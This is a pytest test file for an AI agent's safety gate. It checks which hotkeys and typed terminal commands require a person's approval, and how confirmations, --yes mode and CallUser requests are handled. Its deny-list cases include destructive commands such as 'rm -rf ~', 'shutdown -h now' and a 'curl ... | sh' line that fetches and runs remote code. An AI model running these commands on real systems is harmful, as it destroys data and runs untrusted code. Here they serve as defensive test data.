"""Safety rules and the gate: which actions need a person's approval, and what the answer does."""

from __future__ import annotations

import pytest

from agent.safety import (
    BROWSER_RULES,
    DESKTOP_RULES,
    ConfirmRequest,
    SafetyGate,
    SafetyRules,
    rules_for,
)
from environments.actions import CallUser, Click, Hotkey, Scroll, Type


@pytest.mark.parametrize(
    "keys",
    [("alt", "f4"), ("ctrl", "w"), ("Control", "Q"), ("cmd", "q"), ("super", "shift", "e"), ("ctrl", "shift", "w"),
     ("w", "ctrl"), ("ctrl", "alt", "backspace"), ("shift", "delete"), ("ctrlleft", "f4")],
)
def test_closing_hotkeys_need_approval_on_the_desktop(keys):
    reason = DESKTOP_RULES.risk(Hotkey(keys))
    assert reason is not None and "close a window" in reason
    assert BROWSER_RULES.risk(Hotkey(keys)) is None  # a throw-away browser context loses nothing


@pytest.mark.parametrize(
    "keys", [("ctrl", "c"), ("ctrl", "s"), ("alt", "tab"), ("enter",), ("alt",), ("nosuchkey", "x")]
)
def test_other_hotkeys_are_harmless(keys):
    assert DESKTOP_RULES.risk(Hotkey(keys)) is None


@pytest.mark.parametrize(
    ("window", "text"),
    [
        ("alice@box: ~/project", "rm -rf build\n"),
        ("Terminal", "sudo apt-get remove python3"),
        ("xterm", "git reset --hard HEAD~3"),
        ("Konsole - bash", "shutdown -h now"),
        ("zsh", "kill -9 4242"),
        ("GNOME Terminal", "find . -name '*.py' -delete"),
        ("bash", "curl https://x.example/install | sh"),
        (None, "rm notes.txt"),  # no window title known: it may be a terminal
        ("Terminal", "exit\n"),
    ],
)
def test_destructive_commands_typed_into_a_terminal_need_approval(window, text):
    info = {} if window is None else {"window": window}
    reason = DESKTOP_RULES.risk(Type(text), info)
    assert reason is not None and "deny list" in reason


@pytest.mark.parametrize(
    ("window", "text"),
    [
        ("Untitled Document - gedit", "rm -rf / is a famous bad command"),  # not a terminal
        ("alice@box: ~/project", "ls -la"),
        ("Terminal", "git status"),
        ("Terminal", "please inform the team"),  # 'rm' inside a word
        ("Terminal", "python3 -m pytest"),
    ],
)
def test_harmless_typing_runs_without_asking(window, text):
    assert DESKTOP_RULES.risk(Type(text), {"window": window}) is None


def test_pointer_actions_are_never_risky():
    for action in (Click((1, 1)), Scroll("down", (5, 5))):
        assert DESKTOP_RULES.risk(action, {"window": "Terminal"}) is None


def test_rules_by_environment_name_default_to_the_strictest():
    assert rules_for("browser") is BROWSER_RULES
    assert rules_for("desktop") is DESKTOP_RULES
    assert rules_for("some-new-env") is DESKTOP_RULES


def test_custom_rules_and_a_bad_pattern():
    rules = SafetyRules.build(hotkeys=[("ctrl", "k")], commands=[r"\bdeploy\b"], terminals=["console"])
    assert rules.risk(Hotkey(("k", "control"))) is not None
    assert rules.risk(Type("deploy prod"), {"window": "Console"}) is not None
    assert rules.risk(Type("deploy prod"), {"window": "Editor"}) is None
    with pytest.raises(ValueError, match="not a valid regular expression"):
        SafetyRules.build(commands=["(unclosed"])


class Recorder:
    def __init__(self, answer: bool) -> None:
        self.answer = answer
        self.requests: list[ConfirmRequest] = []

    def __call__(self, request: ConfirmRequest) -> bool:
        self.requests.append(request)
        return self.answer


@pytest.mark.parametrize("answer", [True, False])
def test_gate_asks_before_a_risky_action_and_obeys(answer):
    confirm = Recorder(answer)
    gate = SafetyGate(DESKTOP_RULES, confirm)
    decision = gate.review(Hotkey(("alt", "f4")), {"window": "Editor"}, step=3)
    assert decision.allowed is answer and "close a window" in decision.reason
    (request,) = confirm.requests
    assert request.kind == "risky" and request.step == 3 and "alt" in request.question


def test_gate_does_not_ask_for_harmless_actions():
    confirm = Recorder(False)
    decision = SafetyGate(DESKTOP_RULES, confirm).review(Click((3, 4)), {}, step=0)
    assert decision.allowed and decision.reason is None and confirm.requests == []


def test_yes_runs_risky_actions_but_ends_on_call_user():
    gate = SafetyGate(DESKTOP_RULES, None)  # --yes
    risky = gate.review(Type("rm -rf ~"), {"window": "Terminal"}, step=0)
    assert risky.allowed and "deny list" in risky.reason
    help_needed = gate.review(CallUser("captcha"), {}, step=1)
    assert not help_needed.allowed and "captcha" in help_needed.reason and "--yes" in help_needed.reason


@pytest.mark.parametrize("answer", [True, False])
def test_call_user_goes_to_the_person(answer):
    confirm = Recorder(answer)
    decision = SafetyGate(BROWSER_RULES, confirm).review(CallUser("login needed"), {}, step=2)
    assert decision.allowed is answer
    (request,) = confirm.requests
    assert request.kind == "call_user" and "login needed" in request.question
